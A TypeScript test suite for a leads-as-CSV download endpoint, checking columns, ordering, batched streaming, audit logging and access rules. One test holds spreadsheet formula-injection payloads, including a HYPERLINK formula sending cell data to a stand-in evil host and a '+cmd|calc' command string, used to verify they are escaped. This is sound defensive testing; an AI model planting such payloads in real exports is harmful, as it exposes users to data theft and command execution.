import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { sql } from 'kysely';
import { startService, type SeededWorkspace, type Service } from '../../../test/support/harness.ts';
import { seedAgent } from '../../../test/support/seed-agent.ts';
import { assertError } from '../../../test/support/assertions.ts';
import { newId } from '../../platform/ids.ts';
import { CSV_BATCH, CSV_COLUMNS } from './csv.ts';
import { insertLead, type LeadRow } from './store.ts';

const PRIVACY = 'https://bikes.example.org/privacy';
const HEADER = [
  'id', 'conversationId', 'name', 'email', 'phone', 'company', 'companyDomain', 'marketing', 'moment', 'page.url', 'page.title', 'language',
  'shown.intro', 'shown.consent', 'shown.privacyUrl', 'shown.marketing', 'createdAt', 'expiresAt',
];

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  assert.equal(cell + row.join(''), '', 'the file ends with CRLF');
  return rows;
}

/** GET /agents/{id}/leads.csv (docs/visitors.md, "Leads as CSV"). */
describe('leads as CSV', () => {
  let service: Service;
  let ws: SeededWorkspace;

  before(async () => {
    service = await startService({ env: { PARLEY_RATE_LIMIT_PER_MINUTE: '100000' } });
    ws = await service.seedWorkspace({ plan: 'enterprise' });
  });
  after(async () => service?.close());

  async function formAgent(leadCapture: Record<string, unknown> = {}): Promise<string> {
    const agent = await seedAgent(service, ws);
    const patched = await service.api('PATCH', `/agents/${agent}`, { key: ws.keys.manage, body: { leadCapture: { enabled: true, privacyUrl: PRIVACY, ...leadCapture } } });
    assert.equal(patched.status, 200, JSON.stringify(patched.body));
    return agent;
  }
  async function leave(agent: string, body: Record<string, unknown>): Promise<string> {
    const response = await fetch(`${service.url}/visitor/v1/agents/${agent}/leads`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ moment: 'button', ...body }),
    });
    const reply = (await response.json()) as any;
    assert.equal(response.status, 201, JSON.stringify(reply));
    return reply.data.id;
  }
  const download = (agent: string, key = ws.keys.read) => fetch(`${service.url}/api/v1/agents/${agent}/leads.csv`, { headers: { authorization: `Bearer ${key}` } });
  async function csvOf(agent: string): Promise<{ response: Response; raw: string; rows: string[][] }> {
    const response = await download(agent);
    const bytes = new Uint8Array(await response.arrayBuffer());
    assert.equal(response.status, 200, new TextDecoder().decode(bytes));
    // Read without dropping the BOM, as a spreadsheet gets the bytes.
    const raw = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    assert.ok(raw.startsWith('\uFEFF'), 'UTF-8 with a BOM');
    return { response, raw, rows: parseCsv(raw.slice(1)) };
  }
  /** Straight into the store: values the visitor API would refuse (a tab, a line break), many leads at once. */
  function lead(agent: string, values: Partial<LeadRow> = {}): LeadRow {
    const now = service.ctx.clock.now();
    return {
      id: newId('lead'), workspace_id: ws.id, agent_id: agent, conversation_id: null, name: null, email: 'x@example.org', phone: null, company: null,
      company_domain: 'example.org', marketing: false, moment: 'button', page_url: null, page_title: null, language: 'en',
      shown: { intro: 'Intro', consent: 'Consent', privacyUrl: PRIVACY, marketing: null }, created_at: now, expires_at: new Date(now.getTime() + 86_400_000), ...values,
    };
  }

  test('every field of 2.10 in the header and one line per lead, newest first, equal to what the JSON list says; the form texts as shown then', async () => {
    const agent = await formAgent({
      fields: [{ name: 'name', required: false }, { name: 'email', required: true }, { name: 'phone', required: false }, { name: 'company', required: false }],
      intro: 'Leave your details, we call back.',
      marketing: { enabled: true, label: 'Send me the newsletter' },
    });
    await leave(agent, { name: 'Zoë Müller', email: 'zoe@bikes-muller.de', company: 'Müller, Söhne & "Co"', marketing: true, page: { url: 'https://bikes.example.org/repair' }, language: 'de' });
    await service.admin('POST', '/clock', { advanceSeconds: 1 });
    // The form changes afterwards: the lead keeps what it showed.
    await service.api('PATCH', `/agents/${agent}`, { key: ws.keys.manage, body: { leadCapture: { enabled: true, privacyUrl: PRIVACY, intro: 'New intro.', marketing: { enabled: false } } } });
    await leave(agent, { email: 'ana@gmail.com', phone: '+34 600 123 456' });

    const { response, rows } = await csvOf(agent);
    assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.match(response.headers.get('content-disposition') ?? '', new RegExp(`^attachment; filename="leads-${agent}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    assert.equal(response.headers.get('cache-control'), 'no-store');
    assert.ok(response.headers.get('x-request-id'));
    assert.deepEqual(rows[0], HEADER);
    assert.deepEqual(CSV_COLUMNS.map(([name]) => name), HEADER);
    const json = (await service.api('GET', `/agents/${agent}/leads`, { key: ws.keys.read })).body.data as any[];
    assert.equal(rows.length, 1 + json.length);
    assert.equal(json.length, 2);
    const cell = (value: unknown) => (value === null ? '' : String(value));
    const expected = json.map((l) => [
      l.id, l.conversationId, l.name, l.email, l.phone === null ? null : `'${l.phone}`, l.company, l.companyDomain, l.marketing, l.moment, l.page?.url ?? null, l.page?.title ?? null,
      l.language, l.shown.intro, l.shown.consent, l.shown.privacyUrl, l.shown.marketing, l.createdAt, l.expiresAt,
    ].map(cell));
    assert.deepEqual(rows.slice(1), expected);
    const [newest, older] = rows.slice(1);
    assert.equal(older[HEADER.indexOf('company')], 'Müller, Söhne & "Co"');
    assert.equal(older[HEADER.indexOf('shown.intro')], 'Leave your details, we call back.');
    assert.equal(older[HEADER.indexOf('shown.marketing')], 'Send me the newsletter');
    assert.equal(older[HEADER.indexOf('marketing')], 'true');
    assert.equal(older[HEADER.indexOf('page.url')], 'https://bikes.example.org/repair');
    assert.ok(older[HEADER.indexOf('shown.consent')].length > 0, 'the consent text the visitor saw');
    assert.equal(newest[HEADER.indexOf('shown.intro')], 'New intro.');
    assert.equal(newest[HEADER.indexOf('shown.marketing')], '');
    assert.equal(newest[HEADER.indexOf('phone')], "'+34 600 123 456");
    assert.equal(newest[HEADER.indexOf('companyDomain')], '', 'null is an empty cell');
  });

  test('a cell a spreadsheet would run as a formula starts with an apostrophe: = + - @ tab and carriage return; quotes and line breaks stay inside one quoted cell', async () => {
    const agent = await formAgent({ fields: [{ name: 'name', required: false }, { name: 'email', required: true }, { name: 'company', required: false }] });
    await leave(agent, { name: '=HYPERLINK("https://evil.example/?"&A1,"Click")', email: 'a@example.org', company: '@SUM(1+1)' });
    await service.admin('POST', '/clock', { advanceSeconds: 1 });
    await leave(agent, { name: '-2+3', email: 'b@example.org', company: '+cmd|calc' });
    await service.admin('POST', '/clock', { advanceSeconds: 1 });
    await insertLead(service.ctx.db, lead(agent, { name: '\tTabbed', company: '\r=1+1', page_url: 'https://x.example/a', page_title: 'Line one\r\nline "two", three' }));
    const { rows } = await csvOf(agent);
    const [stored, second, first] = rows.slice(1);
    const at = (row: string[], name: string) => row[HEADER.indexOf(name)];
    assert.equal(at(first, 'name'), `'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    assert.equal(at(first, 'company'), "'@SUM(1+1)");
    assert.equal(at(second, 'name'), "'-2+3");
    assert.equal(at(second, 'company'), "'+cmd|calc");
    assert.equal(at(stored, 'name'), "'\tTabbed");
    assert.equal(at(stored, 'company'), "'\r=1+1");
    assert.equal(at(stored, 'page.title'), 'Line one\r\nline "two", three');
    for (const row of rows) assert.equal(row.length, HEADER.length);
    for (const row of rows.slice(1)) for (const value of row) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
  });

  test(`a large set streams in batches of ${CSV_BATCH}: every lead once, newest first, expired ones left out`, async () => {
    const agent = await formAgent();
    const count = 2 * CSV_BATCH + 7;
    const now = service.ctx.clock.now();
    // Several leads share a moment: the order within one goes by id, and no batch boundary drops or repeats one.
    await sql`
      insert into leads (id, workspace_id, agent_id, email, marketing, moment, language, shown, created_at, expires_at)
      select 'lead_bulk' || lpad(i::text, 6, '0'), ${ws.id}, ${agent}, 'v' || i || '@example.org', false, 'button', 'en',
        '{"intro": "Intro", "consent": "Consent", "privacyUrl": null, "marketing": null}'::jsonb,
        ${now.toISOString()}::timestamptz - (i / 3) * interval '1 second', ${now.toISOString()}::timestamptz + interval '1 day'
      from generate_series(1, ${count}::int) i`.execute(service.ctx.db);
    await insertLead(service.ctx.db, lead(agent, { id: newId('lead'), expires_at: new Date(now.getTime() - 1000) }));
    const { response, rows } = await csvOf(agent);
    assert.equal(response.headers.get('content-length'), null, 'streamed, not buffered whole');
    const ids = rows.slice(1).map((row) => row[0]);
    assert.equal(ids.length, count);
    assert.equal(new Set(ids).size, count);
    const expected = Array.from({ length: count }, (_, k) => k + 1)
      .sort((a, b) => Math.floor(a / 3) - Math.floor(b / 3) || b - a)
      .map((i) => `lead_bulk${String(i).padStart(6, '0')}`);
    assert.deepEqual(ids, expected);
  });

  test('an agent without leads gives the header alone; the download is audited as lead.export with the key', async () => {
    const agent = await formAgent();
    const { raw } = await csvOf(agent);
    assert.equal(raw, `\uFEFF${HEADER.join(',')}\r\n`);
    const audit = await sql<{ action: string; key_id: string; target: string }>`select action, key_id, target from audit_log where workspace_id = ${ws.id} and action = 'lead.export' and target = ${agent}`.execute(service.ctx.db);
    assert.deepEqual(audit.rows.map((r) => ({ ...r })), [{ action: 'lead.export', key_id: ws.keyIds.read, target: agent }]);
  });

  test('the same rules as the JSON list: 404 for another workspace, an unknown agent or a key tied to another agent; 403 for a chat key; errors in the JSON error body', async () => {
    const agent = await formAgent();
    const other = await service.seedWorkspace({ plan: 'enterprise' });
    const tied = await ws.addKey('read', await seedAgent(service, ws));
    const own = await ws.addKey('read', agent);
    for (const response of [await download(agent, other.keys.read), await download('ag_unknown000000000000', ws.keys.read), await download(agent, tied.key)]) {
      assert.equal(response.status, 404);
      assert.equal(((await response.json()) as any).error.code, 'not_found');
    }
    const refused = await download(agent, ws.keys.chat);
    assert.equal(refused.status, 403);
    assert.equal(((await refused.json()) as any).error.code, 'forbidden');
    assert.equal((await download(agent, own.key)).status, 200);
    assertError(await service.api('GET', `/agents/${agent}/leads.csv?limit=5`, { key: ws.keys.read }), 400, 'invalid_request');
  });

  test('the route is left out of the OpenAPI document and MCP, as a download that is not JSON; the JSON list stays documented', async () => {
    const doc = (await (await fetch(`${service.url}/api/v1/openapi.json`)).json()) as any;
    assert.equal(doc.paths['/agents/{id}/leads.csv'], undefined);
    assert.ok(doc.paths['/agents/{id}/leads'].get);
  });
});
